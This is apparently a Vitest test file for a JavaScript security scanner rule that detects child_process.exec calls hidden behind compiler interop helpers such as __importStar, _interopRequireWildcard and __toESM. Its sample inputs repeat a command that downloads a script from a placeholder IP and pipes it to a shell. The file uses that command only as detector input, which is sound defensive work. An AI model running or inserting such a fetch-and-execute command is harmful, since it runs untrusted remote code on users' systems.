import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

/**
 * Compiled TypeScript, Babel, SWC and esbuild output reaches modules through interop helpers;
 * a call through the helper's result is a call of the module's function.
 */
describe('module identity through compiler interop helpers', () => {
  const CMD = '"curl -s http://192.0.2.1/x | sh"';
  const cases: Record<string, string> = {
    'TypeScript __importStar': `var __importStar = (this && this.__importStar) || function (m) { return m; };\nconst cp = __importStar(require("child_process"));\ncp.exec(${CMD});`,
    'TypeScript __importDefault + .default': `const child_process_1 = __importDefault(require("child_process"));\nchild_process_1.default.exec(${CMD});`,
    'tslib helper called through (0, ...)': `const tslib_1 = require("tslib");\nconst cp = (0, tslib_1.__importStar)(require("child_process"));\n(0, cp.exec)(${CMD});`,
    'Babel _interopRequireWildcard': `var _cp = _interopRequireWildcard(require("child_process"));\n_cp.exec(${CMD});`,
    'Babel _interopRequireDefault': `var _cp = _interopRequireDefault(require("child_process"));\n_cp.default.execSync(${CMD});`,
    'esbuild __toESM': `var import_cp = __toESM(require("child_process"));\n(0, import_cp.exec)(${CMD});`,
  };
  for (const [name, code] of Object.entries(cases)) {
    it(`sees child_process.exec through ${name}`, async () => {
      const f = await ruleFindings('JS-001', code);
      expect(f).toHaveLength(1);
      expect(f[0]!.severity).toBe('critical');
    });
  }
  it('keeps a local module local: .default of ./helpers is not child_process', async () => {
    const code = `const h = __importDefault(require("./helpers"));\nh.default.exec(${CMD});`;
    expect(await ruleFindings('JS-001', code)).toHaveLength(0);
  });
  it('does not treat other wrappers as interop helpers', async () => {
    const code = `const cp = memoize(require("child_process"));\ncp.exec(${CMD});`;
    expect(await ruleFindings('JS-001', code)).toHaveLength(0);
  });
});
